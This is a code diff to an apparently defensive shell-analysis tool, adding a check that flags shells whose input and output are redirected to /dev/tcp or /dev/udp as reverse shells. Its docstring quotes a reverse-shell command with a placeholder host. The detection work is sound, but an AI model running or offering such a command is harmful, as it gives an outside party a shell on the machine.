@@ -9,7 +9,7 @@ from dataclasses import dataclass, field, replace
 from checkrein.core.effect import UNKNOWN, Effect, EffectKind, Flag
 from checkrein.detect.shell import builtins, outputs
 from checkrein.detect.shell.expand import Expander
-from checkrein.detect.shell.languages import language_of
+from checkrein.detect.shell.languages import interpreter_language, language_of
 from checkrein.detect.shell.model import Argv, Invocation, Outcome, ScriptFile, ShellText, Snippet, World, absolute
 from checkrein.detect.shell.nodes import (
     AndOr,
@@ -247,6 +247,8 @@ class Interpreter:
         stdin, sinks = self._redirections(node.redirects, frame)
         if not argv:
             return self._sink(SILENT, sinks, frame)
+        if interpreter_language(program_name(argv[0].text)) == "shell":
+            self._connected(node.redirects, frame, argv[0].text)
         inner = replace(frame, stdin=stdin or frame.stdin)
         output = self.run(argv, inner, environment)
         return self._sink(output, sinks, frame)
@@ -300,6 +302,15 @@ class Interpreter:
                 if redirect.fd in ("", "1") and path:
                     sinks.append((path, ">>" in redirect.operator))
         return stdin, sinks
+
+    def _connected(self, redirects: Iterable[Redirect], frame: Frame, program: str) -> None:
+        """A shell that talks to a connection instead of a terminal: ``bash -i >& /dev/tcp/HOST/PORT 0>&1``."""
+        for redirect in redirects:
+            path = "" if redirect.heredoc else self.path(self._expander(frame).single(redirect.target), frame)
+            if path.startswith(("/dev/tcp/", "/dev/udp/")):
+                host = path.split("/")[3]
+                detail = "a shell for whoever is at the other end"
+                self.emit(Effect(EffectKind.RUN_FETCHED, host, program, rule="network.reverse-shell", detail=detail), frame)
 
     def _input(self, value: Value, frame: Frame) -> Stream:
         path = self.path(value, frame)
